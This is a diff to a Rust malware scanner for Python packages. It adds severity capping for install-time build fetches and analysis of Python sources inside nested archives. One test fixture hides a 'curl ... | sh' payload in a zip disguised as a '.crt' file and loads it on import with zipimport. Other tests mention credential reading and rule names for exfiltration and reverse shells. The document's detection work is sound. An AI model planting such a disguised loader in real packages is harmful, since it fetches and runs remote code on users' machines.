@@ -143,6 +143,7 @@ pub fn inspect_bytes(filename: &str, bytes: &[u8]) -> Inspection {
     rules::metadata_signals::combine(&mut findings);
     sort_findings(&mut findings);
     cap_call_time(&mut findings);
+    cap_build_fetch(&mut findings);
     Inspection {
         name: analysis.name,
         version: analysis.version,
@@ -189,17 +190,36 @@ pub fn cap_call_time(findings: &mut [Finding]) {
     {
         return;
     }
-    // Findings of flow rules (a secret or host data sent to an untrusted host, decoded
-    // data run, a download launched, a shell handed to a socket) are a flow by
-    // themselves. Two rules describing one act (a scheduled task via `schtasks`) are not.
-    const FLOWS: &[&str] = &[
-        "download-execute",
-        "exec-decoded-payload",
-        "exfiltration",
-        "reverse-shell",
-        "secret-upload",
-    ];
-    if highs.iter().any(|f| FLOWS.contains(&f.rule)) {
+    // A flow found only in functions nobody runs at install or import is `high`,
+    // not `critical`: with another call-time `high` it is still two things to
+    // look at (a dashboard alerting a chat bot with its host name, a service
+    // installer), not proof. Critical flows return above (issue 11).
+    let mut first = true;
+    for f in findings.iter_mut().filter(|f| f.severity == Severity::High) {
+        if first {
+            first = false;
+            continue;
+        }
+        f.severity = Severity::Medium;
+        f.message.push_str(" (lowered: call-time only)");
+    }
+}
+
+/// A build step that fetches sources or a toolchain at install time (a custom
+/// `build` command downloading a release archive and running its `configure`)
+/// is one act that up to three rules describe: the hook, the network call and
+/// the launch after a download. Without a critical finding (an untrusted host,
+/// a dropped program, a fetched script piped to a shell) it is `review`, not
+/// `deny`: all but the first of those `high`s are lowered to `medium` (issue 11).
+pub fn cap_build_fetch(findings: &mut [Finding]) {
+    const BUILD_STEP: &[&str] = &["download-execute", "install-hook", "install-network"];
+    if findings.iter().any(|f| f.severity == Severity::Critical) {
+        return;
+    }
+    let install = Stage::Install.describe();
+    let step = |f: &Finding| BUILD_STEP.contains(&f.rule) && (f.rule == "install-hook" || f.message.contains(install));
+    let highs: Vec<&Finding> = findings.iter().filter(|f| f.severity == Severity::High).collect();
+    if highs.is_empty() || !highs.iter().all(|f| step(f)) {
         return;
     }
     let mut first = true;
@@ -209,7 +229,7 @@ pub fn cap_call_time(findings: &mut [Finding]) {
             continue;
         }
         f.severity = Severity::Medium;
-        f.message.push_str(" (lowered: call-time only)");
+        f.message.push_str(" (lowered: one build step)");
     }
 }
 
@@ -294,6 +314,7 @@ pub fn analyse(filename: &str, bytes: &[u8], limits: &Limits) -> Analysis {
         })
         .collect();
     link(kind, &mut files);
+    files.extend(nested_sources(&listing, &files, limits));
     Analysis {
         filename: filename.to_string(),
         kind,
@@ -312,6 +333,74 @@ fn link(kind: Kind, files: &mut [python::PyFile]) {
         .map(|f| python::link::module_name(&f.path, kind != Kind::Wheel))
         .collect();
     python::link::link(files, &modules);
+}
+
+/// Most nested archives whose Python sources are analysed.
+const MAX_NESTED_ARCHIVES: usize = 16;
+/// Bytes one nested archive may expand to when its sources are read.
+const NESTED_BUDGET: u64 = 32 << 20;
+
+/// Python sources inside archives the artifact ships (a zip named `.crt` or
+/// `.pyc`, a tarball among data files), named `outer!/inner.py`. Loaded with
+/// `zipimport` (anywhere in the artifact's code) their top level runs on
+/// import like any module's; otherwise they are only data, read as auxiliary
+/// code so that what they hold is still reported (issue 11).
+fn nested_sources(listing: &Listing, files: &[python::PyFile], limits: &Limits) -> Vec<python::PyFile> {
+    let zipimport = files.iter().any(|f| {
+        f.imports.iter().any(|(m, _)| m == "zipimport") || f.calls.iter().any(|c| c.name.starts_with("zipimport."))
+    });
+    let mut out = Vec::new();
+    // A nested bomb was already measured (and reported) while reading the artifact;
+    // read nothing twice, and nested archives within a small share of the budget.
+    if listing
+        .hazards
+        .iter()
+        .any(|h| matches!(h, archive::Hazard::Bomb { .. } | archive::Hazard::TooManyEntries { .. }))
+    {
+        return out;
+    }
+    let nested_limits = Limits {
+        max_total: limits.max_total.min(NESTED_BUDGET),
+        max_kept: limits.max_kept.min(NESTED_BUDGET),
+        max_entries: limits.max_entries.min(10_000),
+        ..*limits
+    };
+    let limits = &nested_limits;
+    let archives = listing
+        .members
+        .iter()
+        .filter(|m| m.entry == EntryType::File && m.complete && !python::is_source(&m.path))
+        .filter_map(|m| {
+            let name = if m.data.starts_with(b"PK\x03\x04") {
+                "nested.zip"
+            } else if m.data.starts_with(b"\x1f\x8b") {
+                "nested.tar.gz"
+            } else {
+                return None;
+            };
+            // A wheel or egg inside an sdist is a build or test fixture with its own name.
+            let lower = m.path.to_ascii_lowercase();
+            (!lower.ends_with(".whl") && !lower.ends_with(".egg")).then_some((m, name))
+        })
+        .take(MAX_NESTED_ARCHIVES);
+    for (m, name) in archives {
+        let inner = archive::read(name, &m.data, limits);
+        let role = if zipimport && name == "nested.zip" {
+            Role::Module
+        } else {
+            Role::Auxiliary
+        };
+        for member in inner
+            .members
+            .iter()
+            .filter(|i| i.entry == EntryType::File && i.complete && python::is_source(&i.path))
+        {
+            let mut named = member.clone();
+            named.path = format!("{}!/{}", m.path, member.path);
+            out.push(python::analyse_member(&named, role));
+        }
+    }
+    out
 }
 
 /// What an sdist's build configuration says it installs, read as text:
@@ -506,25 +595,30 @@ pub mod testing {
     /// Analyses `(path, source)` pairs as members of an artifact of `kind`,
     /// linked across modules as [`analyse`] does.
     pub fn analysis(kind: Kind, files: &[(&str, &str)]) -> Analysis {
-        let mut files: Vec<python::PyFile> = files
-            .iter()
-            .filter(|(p, _)| python::is_source(p))
-            .map(|(p, s)| {
-                let member = archive::Member {
+        let listing = Listing {
+            members: files
+                .iter()
+                .map(|(p, s)| archive::Member {
                     path: p.to_string(),
                     entry: EntryType::File,
                     size: s.len() as u64,
                     data: s.as_bytes().to_vec(),
                     complete: true,
-                };
-                python::analyse_member(&member, Role::of(p, kind))
-            })
+                })
+                .collect(),
+            ..Listing::default()
+        };
+        let mut files: Vec<python::PyFile> = listing
+            .members
+            .iter()
+            .filter(|m| python::is_source(&m.path))
+            .map(|m| python::analyse_member(m, Role::of(&m.path, kind)))
             .collect();
         link(kind, &mut files);
         Analysis {
             filename: "pkg-1.0.tar.gz".into(),
             kind,
-            listing: Listing::default(),
+            listing,
             metadata: None,
             files,
             name: Some("pkg".into()),
@@ -562,6 +656,55 @@ mod cap_tests {
     }
 
     #[test]
+    fn a_build_step_fetching_at_install_is_review() {
+        // No error (issue 11): a custom build command downloading a release and running configure.
+        let mut v = vec![
+            f(
+                "install-network",
+                Severity::High,
+                "calls urllib.request.urlopen() at install time",
+            ),
+            f(
+                "download-execute",
+                Severity::High,
+                "downloads with urlopen() and then launches it with subprocess.call() at install time",
+            ),
+            f(
+                "install-hook",
+                Severity::High,
+                "custom `build` command calls exec() during pip install",
+            ),
+        ];
+        cap_build_fetch(&mut v);
+        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1, "{v:?}");
+        // Error: with anything else high (or a critical finding) the highs stand.
+        let mut v = vec![
+            f(
+                "install-network",
+                Severity::High,
+                "calls requests.post() at install time",
+            ),
+            f(
+                "credential-access",
+                Severity::High,
+                "reads ~/.aws/credentials at install time",
+            ),
+        ];
+        cap_build_fetch(&mut v);
+        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 2, "{v:?}");
+        let mut v = vec![
+            f("install-network", Severity::High, "calls urlopen() on import"),
+            f(
+                "install-hook",
+                Severity::High,
+                "custom `install` command calls os.system() during pip install",
+            ),
+        ];
+        cap_build_fetch(&mut v);
+        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 2, "{v:?}");
+    }
+
+    #[test]
     fn call_time_highs_of_two_rules_cap_at_review() {
         // No error (issue 11): two call-time highs in a library → one stays high.
         let mut v = vec![
@@ -573,13 +716,24 @@ mod cap_tests {
         ];
         cap_call_time(&mut v);
         assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1);
-        // Error: a flow rule keeps both.
+        // No error (issue 11): a call-time flow at `high` with another call-time high is review.
         let mut v = vec![
             f("exfiltration", Severity::High, "sends data to a webhook when called"),
             f("shell-command", Severity::High, "runs a piped shell when called"),
         ];
         cap_call_time(&mut v);
-        assert!(v.iter().all(|f| f.severity == Severity::High));
+        assert_eq!(v.iter().filter(|f| f.severity == Severity::High).count(), 1);
+        // Error: a critical flow is left alone.
+        let mut v = vec![
+            f(
+                "exfiltration",
+                Severity::Critical,
+                "reads wallet keys and sends them when called",
+            ),
+            f("shell-command", Severity::High, "runs a piped shell when called"),
+        ];
+        cap_call_time(&mut v);
+        assert_eq!(v[1].severity, Severity::High);
         // No error: two rules describing one act in a library function (a service installer).
         let mut v = vec![
             f(
@@ -799,5 +953,43 @@ pub mod memo {
             .unwrap();
             assert_eq!(inspect_path(&art, &cache).findings, first.findings);
         }
+    }
+}
+
+#[cfg(test)]
+mod nested_tests {
+    use std::io::Write;
+
+    use super::*;
+
+    fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for (path, data) in members {
+            z.start_file(*path, zip::write::SimpleFileOptions::default()).unwrap();
+            z.write_all(data).unwrap();
+        }
+        z.finish().unwrap().into_inner()
+    }
+
+    fn wheel(init: &str, hidden: &[u8]) -> Vec<u8> {
+        let meta = rules::artifact_fixture::pkg_info("pkg", "1.0");
+        zip(&[
+            ("pkg-1.0.dist-info/METADATA", meta.as_bytes()),
+            ("pkg/__init__.py", init.as_bytes()),
+            ("pkg/cert.crt", hidden),
+        ])
+    }
+
+    #[test]
+    fn code_in_a_zip_loaded_with_zipimport_runs_on_import() {
+        // Error (issue 11): a zip named `.crt` holding the payload, loaded with zipimport.
+        let payload = zip(&[("x.py", b"import os\nos.system('curl -s http://198.51.100.7/x | sh')\n")]);
+        let init = "import os, zipimport\nzipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'cert.crt')).load_module('x')\n";
+        let f = inspect_bytes("pkg-1.0-py3-none-any.whl", &wheel(init, &payload)).findings;
+        let hit = f.iter().find(|f| f.file.as_deref() == Some("pkg/cert.crt!/x.py"));
+        assert!(hit.is_some_and(|f| f.severity == Severity::Critical), "{f:?}");
+        // No error at high: the same zip shipped as data nobody imports.
+        let f = inspect_bytes("pkg-1.0-py3-none-any.whl", &wheel("__all__ = []\n", &payload)).findings;
+        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
     }
 }
